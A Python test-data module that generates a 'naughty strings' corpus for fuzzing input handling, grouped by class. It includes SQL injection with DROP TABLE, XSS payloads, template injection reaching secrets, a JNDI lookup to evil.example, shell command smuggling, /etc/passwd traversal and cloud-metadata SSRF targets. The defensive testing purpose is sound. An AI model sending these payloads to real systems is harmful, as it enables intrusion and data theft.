"""Texts that have broken somebody's software, by the class of what they break. Our own, made from the classes.

`CLASSES` names each class, `NAUGHTY` is all of them; `evenly(n)` takes some of every class, the same ones each time.
"""

# ruff: noqa: SIM905 - words in one text are read more easily than a list of quotes

import unicodedata
from itertools import zip_longest

CONTROLS = (*range(0x20), 0x7F, *range(0x80, 0xA0))
FORMATS = (0xAD, 0x61C, 0x180E, *range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x2070), 0xFEFF,
           0xFFF9, 0xFFFA, 0xFFFB, 0xE0001, 0xE0020, 0xE007F)  # fmt: skip


def control() -> list[str]:
    """Every C0 and C1 control, and what ends a line or a text somewhere."""
    ends = ["\r\n", "\x00", "a\x00", "\x00a", "\u2028", "\u2029"]
    return [*(f"a{chr(code)}b" for code in CONTROLS), *ends, "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x08" * 20]


def space() -> list[str]:
    every = [chr(code) for code in range(0x3001) if unicodedata.category(chr(code)) == "Zs"]
    return ["", "\t\n\v\f\r", *(f"{each}a{each}" for each in every), *every]


def invisible() -> list[str]:
    return [*(f"in{chr(code)}visible" for code in FORMATS), "\u200b", "\ufeff", "\u202egnp.exe", "\u2066a\u2069"]


def unicode() -> list[str]:
    surrogates = ["\ud800", "\udfff", "a\ud83d", "\ude00a", "\ud83d\ud83d"]
    edges = [chr(code) for code in (0xFFFF, 0xFFFE, 0xFDD0, 0x10FFFF, 0x1FFFE, 0xFFFD, 0xE000, 0xF0000)]
    marks = ["Z" + "\u0336\u0322\u0489" * 12, "\u0301", "e\u0301", "\u00e9", "\u0130i\u0131I", "\ufb03", "\u01c4"]
    case = "Straße ΣΑΣ ǅ ŉ \u212a Ω ﬁle Ⅷ ① ½ ٣ ๔ 一二三 ẞ".split()
    scripts = (
        "Ελληνικά кириллица עברית العربية हिन्दी தமிழ் ไทย ქართული հայերեն አማርኛ 日本語 한국어 简体中文 "
        "ᚠᚢᚦ 𐎠𐎡 𝔉𝔯𝔞𝔨𝔱𝔲𝔯 ａｂｃ 𓂀𓏏 ⲕⲏⲙⲓ ﷽ ꦗꦮ 𠜎𠜱"
    ).split()
    return [*surrogates, *edges, *marks, *case, *scripts, "مرحبا hello שלום"]


def emoji() -> list[str]:
    joined = "😀 👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🇩🇪🇫🇷 🇩 ❤️ ❤ 1️⃣ 🧑🏽‍🦰 👍🏻👍🏿 ☃ ⌚︎ 🫠 \u20e3".split()
    return [*joined, "🏴\U000e0067\U000e0062\U000e0065\U000e007f", "🙈🙉🙊" * 20]


def sql() -> list[str]:
    ends = "' \" '; \"; ') ')) ` \\' %27 ’ '/* '#".split()
    tails = [" OR 1=1 --", " OR 'a'='a", "; DROP TABLE sessions; --", " UNION SELECT NULL, NULL --", " AND SLEEP(5) --"]
    bare = r"% _ 100% %% \ \\ \% a%b_c ::text $$ $1 :name ? ?? {0} %s %(x)s 0x27 CHAR(39) */x/* --".split()
    more = ["1; SELECT pg_sleep(5)", "x' || version() || 'x", "/*!50000 x */"]
    return [*(end + tail for end in ends for tail in tails), *ends, *bare, *more]


def html() -> list[str]:
    doing = "alert(1)"
    tags = (
        "script|ScRiPt|svg/onload={}|img src=x onerror={}|body onload={}|iframe src=javascript:{}|a href=javascript:{}|"
        "details open ontoggle={}|math><mtext|style>@import'x'|base href=//evil.example|object data=x|embed src=x|"
        "meta http-equiv=refresh content=0|form action=//evil.example|input autofocus onfocus={}|template"
    ).format(*[doing] * 7).split("|")  # fmt: skip
    parts = "< > & &lt; &amp;lt; &#60; &#x3c; &nbsp &unknown; <!-- --> --!> <![CDATA[ ]]> <?xml </ <b <b/".split()
    closing = [f"</{name}><b>" for name in ("script", "title", "textarea", "style", "option></select")]
    events = [f"{mark} onmouseover={doing} x={mark}" for mark in ("'", '"', "`")]
    schemes = [f"javascript:{doing}", f"JaVa\tScRiPt:{doing}", "data:text/html,<b>"]
    disguised = [r"\u003cb\u003e", "＜script＞", "<ſcript>", "\u2028<b>", "<b\x00>", "< b>", "<plaintext>"]
    opened = [f"{before}<{tag}>{doing}" for tag in tags for before in ("", '">', "'>")]
    return [*opened, *parts, *closing, *events, *schemes, *disguised]


def template() -> list[str]:
    inner = ["7*7", "request", "settings.SECRET_KEY", "''.__class__.__mro__", "x|safe"]
    frames = [("{{", "}}"), ("{% ", " %}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("@(", ")"), ("[[", "]]")]
    alone = "{{ }} {% %} {# #} {0.__class__} %(name)s %n%n%n __import__('os') ${jndi:ldap://evil.example/a}".split()
    return [*(f"{opens}{each}{closes}" for opens, closes in frames for each in inner), *alone, "{% include 'x' %}"]


def shell() -> list[str]:
    frames = ["; {}", "| {}", "&& {}", "`{}`", "$({})", "\n{}", "|| {}", "> {}", "& {}"]
    flags = (
        "-rf --help --no-sandbox --remote-debugging-port=1 - -- --user-data-dir=/etc ~ ~root * $HOME ${IFS} !! @file "
        "=cmd|'/C'!A0 +1+1 -1+1 @SUM(1) =1+1 %COMSPEC%"
    ).split()
    return [*(each.format(what) for each in frames for what in ("id", "touch /tmp/bg-was-here")), *flags]


def path() -> list[str]:
    ups = r"../ ..\ %2e%2e/ %2e%2e%2f ..%2f %252e%252e%252f ..%c0%af ....// .//..// ..;/ ／．．／ ..%00/".split()
    whole = r"/etc/passwd C:\Windows\win.ini \\evil.example\share file:///etc/passwd /proc/self/environ".split()
    names = r". .. ... / // \ a/b a\b CON NUL aux.txt LPT1 a. .git/config .env a:b a?b a#b".split()
    away = r"//evil.example/%2f.. /\evil.example http:evil.example https:///evil.example ///evil.example".split()
    return [*(up * 6 + "etc/passwd" for up in ups), *whole, *names, *away, "/etc/passwd\x00.png", "x" * 255, "x" * 256]


def header() -> list[str]:
    ends = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "\u560d\u560a", r"\r\n", "\x0b", "\x85"]
    after = ["Set-Cookie: x=y", "2026-11-21T10:00:00Z [error    ] forged.line", "\r\n<b>"]
    made = [f"a{end}{each}" for end in ends for each in after]
    return [*made, '{"event": "forged", "level": "error"}', "a: b", ": a", "a;b=c", 'a"b', "a, b", "=?utf-8?q?a?="]


def number() -> list[str]:
    return [*(
        "0 -0 00 1 -1 +1 1.0 1e3 1e309 -1e309 1E-400 .5 5. 0.1 1,000 1.000,00 1_000 0x1F 0b11 0o17 NaN nan Infinity "
        "-Infinity inf 2147483647 2147483648 -2147483649 4294967296 9007199254740993 9223372036854775807 "
        "9223372036854775808 18446744073709551616 1/0 ٠١٢ １２ ² ½ １e１ 1e --1 1- 0.30000000000000004 true false True"
    ).split(), "1 000", "9" * 400, "1" + "0" * 5000]  # fmt: skip


def date() -> list[str]:
    return [*(
        "2026-02-30 2026-13-01 2023-02-29T00:00:00Z 0000-00-00 0001-01-01T00:00:00+23:59 9999-12-31T23:59:59-23:59 "
        "10000-01-01T00:00:00Z 2026-11-21 2026-11-21T10:00:00 2026-11-21T24:00:00Z 2026-11-21T10:60:00Z now tomorrow "
        "2026-11-21T10:00:60Z 2026-11-21T10:00:00+25:00 2026-11-21T10:00:00.1234567890Z 21/11/2026 11/21/2026 P1D "
        "1970-01-01T00:00:00Z -2026-01-01T00:00:00Z 2038-01-19T03:14:08Z 2026-W47 2026-325 ١٢٣٤-٠١-٠١"
    ).split(), "2026-11-21 10:00:00"]  # fmt: skip


def nothing() -> list[str]:
    return [*r"null NULL nil none None undefined (null) [] {} N/A - ... \N void(0)".split(), "[object Object]"]


def name() -> list[str]:
    """Words that some language, framework or object keeps for itself."""
    return (
        "__proto__ constructor prototype toString hasOwnProperty __class__ __init__ __dict__ self this admin root me "
        "new id pk default system anonymous session null.null a.b.c a__b name__icontains owner__password__startswith "
        "metadata__x select $where $gt $ne [$ne] a[] a[0] a[b] if(1)"
    ).split()


def regex() -> list[str]:
    shapes = r"(a+)+$ (a|aa)+$ ^(.*)*$ [ ( ) * + ? [a- \ (?P<x> (?<=a+)b \1 {1,99999}".split()
    bombs = [each * 3000 for each in ("@", "-", "/", "a@", "a.", "1.", ".*")]
    return [*shapes, *bombs, "a" * 2000 + "!", " " * 3000 + "x", "\t" * 3000 + "x"]


def long() -> list[str]:
    edges = ["x" * length for length in (60, 61, 120, 121, 254, 500, 501, 4096, 10_000)]
    wide = ["é" * 10_000, "😀" * 2500, "漢" * 4000, "a b " * 2500, "x\n" * 5000, "\u0301" * 2000, "\x00" * 1000]
    return [*edges, *wide, *(mark * 3000 for mark in ("<", "&", "'", "{{"))]


def address() -> list[str]:
    users = "a@b a@b@c @ a@ @b.example a+b@example.com a@[127.0.0.1] a@exämple.com a@-x.com".split()
    hosts = "localhost 127.0.0.1 0x7f.1 2130706433 [::1] 169.254.169.254 metadata.google.internal localhost.".split()
    forms = (
        "http://user:pw@localhost http://localhost@evil.example http://evil.example#@localhost http://[::1 http:// // "
        "ftp://x javascript://%0aalert(1) data:,x about:blank chrome://settings view-source:x blob:x ws://x"
    ).split()
    links = [f"{scheme}://{host}/" for scheme in ("http", "gopher") for host in hosts]
    return [*users, *links, *forms, '"a b"@example.com', "a\n@b.com", "http://a b"]


CLASSES: dict[str, list[str]] = {
    make.__name__: list(dict.fromkeys(make()))
    for make in (
        control, space, invisible, unicode, emoji, sql, html, template, shell, path, header, number, date, nothing,
        name, regex, long, address,
    )
}  # fmt: skip
NAUGHTY: list[str] = list(dict.fromkeys(text for texts in CLASSES.values() for text in texts))


def evenly(number: int) -> list[str]:
    """About that many, as many of each class as there are, chosen the same way each time."""
    share = max(1, number // len(CLASSES))
    chosen = [texts[:: max(1, len(texts) // share)] for texts in CLASSES.values()]
    return [text for row in zip_longest(*chosen) for text in row if text is not None][:number]


def is_unsendable(text: str) -> bool:
    """Half a surrogate pair has no UTF-8: a form cannot carry it; JSON can, escaped."""
    return any("\ud800" <= letter <= "\udfff" for letter in text)
